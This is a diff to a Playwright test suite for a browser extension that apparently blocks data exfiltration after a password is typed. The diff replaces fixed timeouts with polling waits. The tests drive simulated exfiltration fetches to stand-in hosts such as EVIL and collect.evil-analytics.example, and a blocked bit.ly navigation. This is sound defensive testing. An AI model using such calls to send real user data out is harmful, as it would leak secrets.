@@ -109,7 +109,7 @@ describe('the backstop, force-installed', () => {
   /** Types the password the way a user does, and waits until the worker holds its hashes. */
   async function typePassword(p: Page) {
     await p.locator('#pw').pressSequentially(PASSWORD);
-    await waitForTypedValues(b.worker);
+    await waitForTypedValues(b.worker, p.url());
   }
 
   beforeAll(async () => {
@@ -175,7 +175,15 @@ describe('the backstop, force-installed', () => {
     const before = (await audit()).length;
     for (let i = 0; i < 3; i++) await page.evaluate((u) => (window as any).send('fetch', u), `${EVIL}/again`);
     await page.evaluate((u) => (window as any).send('fetch', u), `${OWN}/api`); // passes; logs nothing
-    await page.waitForTimeout(500);
+    // Each cancel decided at once whether to log, and a write it started is queued on the log's one chain
+    // before its send failed. A later event through the same chain, seen in the log, proves every such
+    // write has landed: a blocked navigation in another tab.
+    const shorteners = async () => (await audit()).filter((e) => e.kind === 'block' && e.rule === 'shortener').length;
+    const marks = await shorteners();
+    const marker = await b.context.newPage();
+    await marker.goto('https://bit.ly/backstop-marker').catch(() => undefined);
+    await expect.poll(shorteners, { timeout: 15_000 }).toBeGreaterThan(marks);
+    await marker.close();
     const events = (await audit()).slice(before).filter((e) => e.detail?.path === 'backstop');
     expect(events).toHaveLength(1); // three attempts, one event
     expect(events[0]).toMatchObject({ kind: 'block', rule: 'unknown-organization', clause: '8.1.1(5)(f)(ｲ)' });
@@ -187,19 +195,41 @@ describe('the backstop, force-installed', () => {
 
   it('the typed-value hashes outlive the worker: stopped and started again, it still cancels', async () => {
     await page.goto(`${OWN}/login`);
-    await typePassword(page);
-    await page.waitForTimeout(300); // written to storage.session
+    await typePassword(page); // this tab's hashes are in storage.session
     const cdp = await page.context().newCDPSession(page);
     await cdp.send('ServiceWorker.enable');
     await cdp.send('ServiceWorker.stopAllWorkers');
     // Woken by something else first (an extension page), so that its hashes are read back before the send.
     const other = await b.context.newPage();
     await other.goto(`chrome-extension://${b.extensionId}/popup.html`);
-    await other.waitForTimeout(500);
+    // The worker running now (a stopped one's handle may linger without answering) reads storage.session
+    // once more: answered after the read-back it started as it woke, so the hashes are in its memory.
+    const start = Date.now();
+    for (let woke = false; !woke;) {
+      for (const w of b.context
+        .serviceWorkers()
+        .filter((x) => x.url().startsWith(`chrome-extension://${b.extensionId}/`))
+        .reverse()) {
+        woke = await Promise.race([
+          w
+            .evaluate(
+              async () =>
+                ((await chrome.storage.session.get('backstopSeen')).backstopSeen as object | undefined) !== null,
+            )
+            .catch(() => false),
+          new Promise<boolean>((r) => setTimeout(() => r(false), 500)),
+        ]);
+        if (woke) {
+          b.worker = w;
+          break;
+        }
+      }
+      if (!woke && Date.now() - start > 15_000) throw new Error('the worker did not start again');
+      if (!woke) await other.waitForTimeout(50);
+    }
     await other.close();
     expect(await page.evaluate((u) => (window as any).send('fetch', u), `${EVIL}/after-restart`)).toBe('failed');
     expect(seen('collect.evil-analytics.example')).toEqual([]);
-    b.worker = b.context.serviceWorkers().find((w) => w.url().startsWith(`chrome-extension://${b.extensionId}/`))!;
   });
 
   it('a form post that slipped past the guard is cancelled; the frame shows the notice instead', async () => {
@@ -225,7 +255,16 @@ describe('the backstop, force-installed', () => {
     return lines;
   }
   async function confirmDialog(p: Page, cdp: CDPSession) {
-    await p.waitForTimeout(800); // the confirmation arms itself after a moment
+    // The confirmation arms itself after a moment: wait for its send to be enabled (a loaded machine runs
+    // the page's timer late, and a click on the disabled button is lost), not for a fixed time.
+    const start = Date.now();
+    for (;;) {
+      const n = await findByTestId(cdp, 'send');
+      const a = n?.attributes ?? [];
+      if (n && !a.some((x, i) => i % 2 === 0 && x === 'disabled')) break;
+      if (Date.now() - start > 15_000) throw new Error('no armed send');
+      await p.waitForTimeout(50);
+    }
     await clickTestId(p, cdp, 'send');
   }
 
